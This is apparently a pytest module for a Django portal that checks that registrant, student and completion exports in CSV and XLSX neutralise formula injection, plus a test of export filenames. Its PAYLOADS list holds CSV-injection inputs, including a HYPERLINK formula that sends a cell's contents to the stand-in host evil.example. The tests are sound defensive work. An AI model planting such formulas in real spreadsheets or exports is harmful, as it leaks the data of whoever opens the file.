"""Every file the portal exports writes a value that starts a formula (= + - @, a tab
or a carriage return) as text: opened in Excel or LibreOffice it never runs."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse

from socoba_portal.exports.formats import FormulaSafeFormat, neutralise_formula
from students.models import Completion
from tests.seminars.factories import RegistrationFactory
from tests.students.factories import CohortFactory, CourseFactory, StudentFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
FORMAT = {"csv": "0", "xlsx": "1"}


def rows_of(response, file_format):
    if file_format == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), "a formula cell"
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def export(client, url_name, resource, columns, file_format):
    data = {"format": FORMAT[file_format], "resource": "0"}
    data |= {f"{resource}_{column}": "on" for column in columns}
    response = client.post(reverse(url_name), data)
    assert response.status_code == 200
    assert response.has_header("Content-Disposition")
    return rows_of(response, file_format)


def assert_neutralised(values):
    """Each value is its payload after an apostrophe (XML, hence XLSX, reads \r as \n)."""
    expected = sorted(f"'{payload}".replace("\r", "\n") for payload in PAYLOADS)
    assert sorted(value.replace("\r", "\n") for value in values) == expected


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_registrants_export_writes_formulas_as_text(admin_client, file_format):
    for payload in PAYLOADS:
        RegistrationFactory(name=payload, organisation=payload, needs=payload)
    rows = export(
        admin_client, "admin:seminars_registration_export", "registrationresource", ["name", "needs"], file_format
    )
    assert len(rows[0]) == 2
    assert_neutralised([row[0] for row in rows[1:]])
    assert_neutralised([row[1] for row in rows[1:]])


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_students_export_writes_formulas_as_text(admin_client, file_format):
    cohort = CohortFactory()
    for number, payload in enumerate(PAYLOADS):
        StudentFactory(cohort=cohort, student_number=f"F{number}", first_name=payload, employer=payload)
    rows = export(
        admin_client,
        "admin:students_student_export",
        "studentresource",
        ["student_number", "first_name", "employer"],
        file_format,
    )
    assert rows[0] == ["student_number", "first_name", "employer"]  # the import's own column names
    assert_neutralised([row[1] for row in rows[1:]])
    assert_neutralised([row[2] for row in rows[1:]])


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_completions_export_writes_formulas_as_text(admin_client, file_format):
    student = StudentFactory(student_number="=1+1")
    course = CourseFactory(cohort=student.cohort, code="@A1")
    Completion.objects.create(student=student, course=course, completed_on=datetime.date(2019, 1, 1), grade="5")
    rows = export(
        admin_client,
        "admin:students_completion_export",
        "completionresource",
        ["student", "course", "grade"],
        file_format,
    )
    assert rows[1][:2] == ["'=1+1", "'@A1"]


def test_numbers_and_empty_cells_keep_their_type():
    assert neutralise_formula("-2") == "-2"
    assert neutralise_formula("-1,5") == "-1,5"
    assert neutralise_formula(-2) == -2
    assert neutralise_formula(None) is None
    assert neutralise_formula("Anna-Liisa") == "Anna-Liisa"
    assert neutralise_formula("-") == "'-"


def test_every_format_of_the_portal_neutralises_formulas():
    assert settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is True
    assert settings.IMPORT_EXPORT_FORMATS
    assert all(issubclass(file_format, FormulaSafeFormat) for file_format in settings.IMPORT_EXPORT_FORMATS)


def test_an_export_file_says_what_it_is_of_and_when(rf, admin_user, time_machine):
    """One event's registrants carry its slug, and the time to the minute: two exports of
    different events, or of one event at different times, never share a name."""
    from django.contrib import admin
    from import_export.formats.base_formats import CSV

    from seminars.models import Registration

    time_machine.move_to(datetime.datetime(2026, 12, 5, 14, 32, tzinfo=datetime.UTC))
    spring, autumn = (
        RegistrationFactory(event__slug="kevatseminaari"),
        RegistrationFactory(event__slug="syysseminaari"),
    )
    registrations = admin.site._registry[Registration]
    request = rf.get("/")
    request.user = admin_user

    def name(*rows):
        return registrations.get_export_filename(
            request, Registration.objects.filter(pk__in=[r.pk for r in rows]), CSV()
        )

    assert name(spring) == "ilmoittautumiset-kevatseminaari-2026-12-05-1632.csv"  # Helsinki time
    assert name(autumn) == "ilmoittautumiset-syysseminaari-2026-12-05-1632.csv"
    assert name(spring, autumn) == "ilmoittautumiset-2026-12-05-1632.csv"
